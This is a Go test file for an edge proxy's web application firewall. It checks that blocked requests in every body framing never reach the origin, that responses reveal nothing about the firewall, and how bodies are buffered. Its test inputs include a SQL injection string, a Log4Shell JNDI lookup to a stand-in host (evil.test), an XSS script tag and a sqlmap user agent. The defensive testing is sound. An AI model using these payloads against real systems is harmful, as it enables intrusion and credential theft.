package edge_test

import (
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"skerry.dev/skerry/edge"
)

const (
	jsonType = "application/json"
	formType = "application/x-www-form-urlencoded"
)

// telling is what a client must not learn of the firewall: ids of rules, names, its own attack.
var telling = regexp.MustCompile(`UNION|rule|score|(?i:sqli|crs|owasp|waf|firewall)|\b9[0-9]{5}\b`)

// multipartOf is a multipart body with one field, and its Content-Type.
func multipartOf(boundary, field, value string) (media, body string) {
	return "multipart/form-data; boundary=" + boundary,
		"--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + field + "\"\r\n\r\n" + value + "\r\n--" + boundary + "--\r\n"
}

// TestFirewallBeforeOrigin: of a request that is refused, by its head or by its body, in whatever framing, no byte reaches the
// origin, and the client learns nothing but an id.
func TestFirewallBeforeOrigin(t *testing.T) {
	w := wall(t, edge.Options{}, echoBody, "")
	const sqli = "1' UNION SELECT password FROM users--"
	coded := strings.NewReplacer(" ", "%20", "'", "%27").Replace(sqli)
	multi, part := multipartOf("xyz", "q", sqli)
	f := func(name, request string) {
		t.Helper()
		status, header, body := w.raw(request)
		if status != 403 || header.Get("X-Request-Id") == "" {
			t.Errorf("%s: status %d, id %q: %s", name, status, header.Get("X-Request-Id"), body)
		}
		if told := telling.FindString(body + fmt.Sprint(header)); told != "" {
			t.Errorf("%s: the client is told of %q: %v %s", name, told, header, body)
		}
		w.none(name)
	}
	f("query", get("/?q="+coded))
	f("field", get("/", "User-Agent: ${jndi:ldap://evil.test/a}"))
	f("cookie", get("/", "Cookie: a="+sqli))
	f("path", get("/%3Cscript%3Ealert(1)%3C/script%3E"))
	f("form", post("/", formType, "a=b&q="+strings.ReplaceAll(coded, "%20", "+")))
	f("json", post("/", jsonType, `{"a":{"q":"`+sqli+`"}}`))
	f("ndjson", post("/", "application/x-ndjson", `{"a":1}`+"\n"+`{"q":"`+sqli+`"}`+"\n"))
	f("xml", post("/", "text/xml", "<a><q>"+sqli+"</q></a>"))
	f("multipart", post("/", multi, part))
	f("chunks", postChunked("/", jsonType, filled(jsonType, 100<<10, true), 1000))
	f("single bytes", postChunked("/", formType, "q="+strings.ReplaceAll(sqli, " ", "+"), 1))
	f("a length beyond a buffer", post("/", jsonType, filled(jsonType, 100<<10, true)))
	f("trailer", "POST / HTTP/1.1\r\nHost: shop.test\r\nAccept: */*\r\nUser-Agent: t\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\n\r\n"+
		"4\r\n<a/>\r\n0\r\nX-Note: ${jndi:ldap://evil.test/a}\r\n\r\n")
	for _, body := range []string{`{"q":"` + sqli + `"}`, filled(jsonType, 100<<10, true)} {
		if status, answer := w.h2("POST", "/", jsonType, strings.NewReader(body)); status != 403 {
			t.Errorf("HTTP/2, %d bytes: status %d: %.200s", len(body), status, answer)
		}
		w.none("HTTP/2")
	}
	if status, _, _ := w.raw(get("/?q=shoes")); status != 200 || w.bytes.Load() == 0 {
		t.Errorf("a harmless request: status %d, %d bytes reached the origin", status, w.bytes.Load())
	}
}

// TestFirewallContinue: the edge itself asks for the body of a client that waits, once the head has passed, and never for that
// of one that has not.
func TestFirewallContinue(t *testing.T) {
	w := wall(t, edge.Options{}, echoBody, "")
	ask := func(body, field string) (c *client, status int) {
		t.Helper()
		c = w.dial()
		resp, _, err := c.do(fmt.Sprintf("POST / HTTP/1.1\r\nHost: shop.test\r\nAccept: */*\r\n%s\r\nContent-Type: %s\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n",
			field, jsonType, len(body)))
		must(t, err)
		return c, resp.StatusCode
	}
	const bad = `{"q":"1' UNION SELECT password FROM users--"}`
	if _, status := ask("{}", "User-Agent: sqlmap/1.8"); status != 403 {
		t.Errorf("a refused head: %d, want 403 and no 100", status)
	}
	if _, status := ask(strings.Repeat("x", 129<<10), "User-Agent: t"); status != 413 {
		t.Errorf("a body that is too large: %d, want 413 and no 100", status)
	}
	w.none("refused heads")
	f := func(body string, want int) {
		t.Helper()
		c, status := ask(body, "User-Agent: t")
		if status != 100 {
			t.Fatalf("the head: %d, want 100", status)
		}
		w.none("before the body")
		resp, answer, err := c.do(body)
		must(t, err)
		if resp.StatusCode != want || want == 200 && answer != body {
			t.Errorf("%.40s: status %d: %.200s", body, resp.StatusCode, answer)
		}
		if want != 200 {
			w.none("after the body")
			return
		}
		got := <-w.seen
		if got.header.Get("Expect") != "" || got.body != body || got.length != int64(len(body)) {
			t.Errorf("the origin got %+v", got)
		}
		if resp, _, err := c.do(get("/")); err != nil || resp.StatusCode != 200 {
			t.Errorf("the next request on the connection: %v %v", resp, err)
		}
		<-w.seen
		w.bytes.Store(0)
	}
	f(bad, 403)
	f(`{"q":"shoes"}`, 200)
	f(filled(jsonType, 100<<10, false), 200)
}

// TestFirewallHolds: bodies of all sizes in both framings reach the origin as they were sent, framed anew, and the connection
// goes on; beyond what is held they are refused.
func TestFirewallHolds(t *testing.T) {
	w := wall(t, edge.Options{}, echoBody, "")
	c := w.dial()
	for _, media := range []string{jsonType, formType, "text/xml"} {
		for _, size := range []int{100, 16 << 10, 16<<10 + 1, 127 << 10, 128 << 10} {
			body := filled(media, size, false)
			for name, request := range map[string]string{
				"length": post("/", media, body), "chunks": postChunked("/", media, body, 4000), "small chunks": postChunked("/", media, body, 97),
			} {
				resp, answer, err := c.do(request)
				if err != nil || resp.StatusCode != 200 || answer != body {
					t.Fatalf("%s, %d bytes, %s: %v, %v: got %d bytes %.100q", media, size, name, err, resp, len(answer), answer)
				}
				if got := <-w.seen; got.body != body || got.length != int64(size) || got.header.Get("Content-Type") != media {
					t.Errorf("%s, %d bytes, %s: the origin got %d bytes, length %d, %v", media, size, name, len(got.body), got.length, got.header)
				}
			}
			if status, answer := w.h2("POST", "/", media, strings.NewReader(body)); status != 200 || answer != body {
				t.Errorf("%s, %d bytes, HTTP/2: status %d, %d bytes", media, size, status, len(answer))
			}
			if status, answer := w.h2("POST", "/", media, io.MultiReader(strings.NewReader(body))); status != 200 || answer != body {
				t.Errorf("%s, %d bytes, HTTP/2 without a length: status %d, %d bytes", media, size, status, len(answer))
			}
			<-w.seen
			<-w.seen
		}
	}
	for _, request := range []string{post("/", jsonType, ""), postChunked("/", jsonType, "", 1)} {
		if resp, answer, err := c.do(request); err != nil || resp.StatusCode != 200 || answer != "" {
			t.Errorf("an empty body: %v %v %q", err, resp, answer)
		}
		<-w.seen
	}
	w.bytes.Store(0)
	large := filled(jsonType, 129<<10, false)
	for name, request := range map[string]string{"length": post("/", jsonType, large), "chunks": postChunked("/", jsonType, large, 4000)} {
		if status, _, body := w.raw(request); status != 413 {
			t.Errorf("129 KB, %s: status %d: %s", name, status, body)
		}
		w.none(name)
	}
	w.until("no body is held", func() bool { return w.heldBytes() == 0 })
}

// TestFirewallTrailers: what follows a held body follows it to the origin.
func TestFirewallTrailers(t *testing.T) {
	w := wall(t, edge.Options{}, echoBody, "")
	c := w.dial()
	for _, body := range []string{`{"a":1}`, filled(jsonType, 50<<10, false)} {
		request := postChunked("/", jsonType, body, 5000)
		request = strings.TrimSuffix(request, "\r\n") + "X-Sum: 12\r\n\r\n"
		resp, answer, err := c.do(strings.Replace(request, "Transfer-Encoding", "Trailer: X-Sum\r\nTransfer-Encoding", 1))
		if err != nil || resp.StatusCode != 200 || answer != body {
			t.Fatalf("%v %v, %d bytes", err, resp, len(answer))
		}
		if got := <-w.seen; got.trailer.Get("X-Sum") != "12" || got.length != -1 || got.body != body {
			t.Errorf("the origin got %v, length %d, %d bytes", got.trailer, got.length, len(got.body))
		}
	}
}

// TestFirewallSlowBody: while a body comes slowly the origin knows nothing of it, and memory is taken for what has come only.
func TestFirewallSlowBody(t *testing.T) {
	w := wall(t, edge.Options{}, echoBody, "  bodyMax: 100MB\n  waf: {bodyBytesMax: 16MB}\n")
	body := filled(jsonType, 100<<10, false)
	for name, request := range map[string]string{"length": post("/", jsonType, body), "chunks": postChunked("/", jsonType, body, 100)} {
		c := w.dial()
		half := len(request) / 2
		_, err := io.WriteString(c.conn, request[:half])
		must(t, err)
		w.until("half of the body is held", func() bool { return w.heldBytes() >= 32<<10 })
		if n := w.heldBytes(); n > 128<<10 {
			t.Errorf("%s: %v bytes held for half of 100 KB", name, n)
		}
		w.none(name)
		resp, answer, err := c.do(request[half:])
		if err != nil || resp.StatusCode != 200 || answer != body {
			t.Errorf("%s: %v %v, %d bytes", name, err, resp, len(answer))
		}
		w.bytes.Store(0)
	}
	// One that says it will be large takes nothing for it.
	c := w.dial()
	_, err := io.WriteString(c.conn, fmt.Sprintf("POST / HTTP/1.1\r\nHost: shop.test\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n{", jsonType, 15<<20))
	must(t, err)
	w.until("the first bytes are held", func() bool { return w.heldBytes() > 0 })
	if n := w.heldBytes(); n > 16<<10 {
		t.Errorf("%v bytes held for one that came", n)
	}
	// A client that leaves gives back what is held.
	c.conn.Close()
	w.until("nothing is held after the client left", func() bool { return w.heldBytes() == 0 })
	w.none("a client that left")
}

// TestFirewallHeldAndAnswer: the memory of a body is given back when the answer begins, not when the client has taken it.
func TestFirewallHeldAndAnswer(t *testing.T) {
	leave := make(chan struct{})
	w := wall(t, edge.Options{}, func(rw http.ResponseWriter, _ *http.Request) {
		rw.WriteHeader(200)
		rw.(http.Flusher).Flush()
		<-leave
	}, "")
	c := w.dial()
	_, err := io.WriteString(c.conn, post("/", jsonType, filled(jsonType, 100<<10, false)))
	must(t, err)
	resp, err := http.ReadResponse(c.r, nil)
	must(t, err)
	w.until("nothing is held", func() bool { return w.heldBytes() == 0 })
	close(leave)
	_, err = io.Copy(io.Discard, resp.Body)
	must(t, err)
}
